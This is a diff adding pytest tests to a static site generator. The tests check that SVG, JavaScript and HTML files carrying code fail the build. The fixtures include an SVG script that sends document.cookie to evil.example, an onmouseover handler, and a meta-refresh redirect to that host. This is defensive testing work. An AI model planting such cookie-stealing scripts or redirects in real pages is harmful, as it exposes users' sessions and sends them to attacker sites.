@@ -102,3 +102,41 @@ def test_event_bodies_are_checked_and_event_summaries_are_text(tmp_path):
         build_site(content, tmp_path / "output2", SITE_NOW="2018-06-20", PLUGINS=plugins_with_events())
     assert "content/events/safe-event.md, line 10: the attribute srcdoc= is not one a <iframe> may have" \
         in failure.value.report
+
+
+SVG_WITH_SCRIPT = """<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
+  <rect width="10" height="10"/>
+  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
+</svg>
+"""
+CLEAN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Square</title><rect width="10" height="10"/></svg>'
+
+
+def test_static_files_that_carry_code_fail_the_build_with_their_line(tmp_path):
+    content = make_content(tmp_path, {"good.md": GOOD_POST})
+    images = content / "images"
+    images.mkdir()
+    (images / "logo.svg").write_text(SVG_WITH_SCRIPT, encoding="utf-8")
+    (images / "badge.svg").write_text(CLEAN_SVG.replace("<rect", '<rect onmouseover="alert(1)"'), encoding="utf-8")
+    (images / "x.js").write_text("alert(document.domain)", encoding="utf-8")
+    (content / "extra").mkdir()
+    (content / "extra" / "offer.html").write_text(
+        "<!DOCTYPE html>\n<html><head>\n<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n"
+        "</head><body><p>Moved</p></body></html>\n", encoding="utf-8")
+    with pytest.raises(BuildFailed) as failure:
+        build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
+    report = failure.value.report
+    assert "content/images/logo.svg, line 4: the <script> element runs code." in report
+    assert "content/images/badge.svg, line 1: the attribute onmouseover= on <rect> runs code." in report
+    assert "content/images/x.js: a '.js' file can run code" in report
+    assert "content/extra/offer.html, line 3: the <meta> in its head is not allowed" in report
+    assert not (tmp_path / "output").exists()
+
+
+def test_a_clean_svg_is_published_as_it_is(tmp_path):
+    content = make_content(tmp_path, {"good.md": GOOD_POST.replace("Text.", "![A square](/images/square.svg)")})
+    (content / "images").mkdir()
+    (content / "images" / "square.svg").write_text(CLEAN_SVG, encoding="utf-8")
+    build_site(content, tmp_path / "output", SITE_NOW="2018-06-20")
+    assert (tmp_path / "output" / "images" / "square.svg").read_text(encoding="utf-8") == CLEAN_SVG
